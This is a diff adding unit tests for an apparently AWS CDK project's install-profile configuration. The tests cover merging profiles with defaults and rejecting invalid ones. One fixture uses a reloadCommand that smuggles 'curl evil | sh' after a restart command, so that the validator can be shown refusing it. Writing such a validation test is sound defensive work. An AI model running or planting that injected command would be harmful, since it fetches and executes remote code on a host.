@@ -1,6 +1,7 @@
 import { App } from 'aws-cdk-lib';
 import { describe, expect, it } from 'vitest';
-import { ConfigError, DEFAULT_CONFIG, loadConfig } from '../../lib/config.js';
+import { ConfigError, DEFAULT_CONFIG, installProfilesOf, loadConfig } from '../../lib/config.js';
+import { DEFAULT_HOST_INSTALL } from '../../lambda/shared/install-parameters.js';
 
 const load = (context: Record<string, unknown>) => loadConfig(new App({ context }).node);
 
@@ -62,6 +63,46 @@ describe('configuration', () => {
       installReloadCommand: 'apachectl graceful',
       installFileGroup: 'ssl-cert',
     });
+  });
+
+  it('makes the install* keys the profile named default, and fills the others from the product defaults', () => {
+    const config = load({
+      installCertDirectory: '/etc/pki/tls/certs',
+      installProfiles: '{"haproxy": {"keyDirectory": "/etc/haproxy/private", "fileGroup": "haproxy"}}',
+    });
+    expect(installProfilesOf(config)).toEqual({
+      default: { ...DEFAULT_HOST_INSTALL, certDirectory: '/etc/pki/tls/certs' },
+      haproxy: { ...DEFAULT_HOST_INSTALL, keyDirectory: '/etc/haproxy/private', fileGroup: 'haproxy' },
+    });
+  });
+
+  it('reports each problem of the install profiles in its own words', () => {
+    let error: unknown;
+    try {
+      load({
+        installProfiles: {
+          default: {},
+          'Web Servers': {},
+          tomcat: { reloadCommand: 'systemctl restart tomcat; curl evil | sh', keystore: 'x' },
+          java: 'pkcs12',
+        },
+      });
+    } catch (caught) {
+      error = caught;
+    }
+    expect(error).toBeInstanceOf(ConfigError);
+    expect((error as ConfigError).problems).toEqual([
+      'installProfiles may not define "default": that profile is the install* keys',
+      expect.stringMatching(/^installProfiles has a profile name that is not valid \(.*\): "Web Servers"$/),
+      expect.stringMatching(/^installProfiles\.tomcat\.reloadCommand is not valid: Run after a good install/),
+      expect.stringMatching(
+        /^installProfiles\.tomcat has an unknown setting "keystore" \(known: certDirectory, /,
+      ),
+      'installProfiles.java must be an object of settings; got "pkcs12"',
+    ]);
+    expect(() => load({ installProfiles: '{not json' })).toThrow(
+      /installProfiles must be a JSON object of profiles; got "\{not json"/,
+    );
   });
 
   it('needs at least one valid instance tag key', () => {
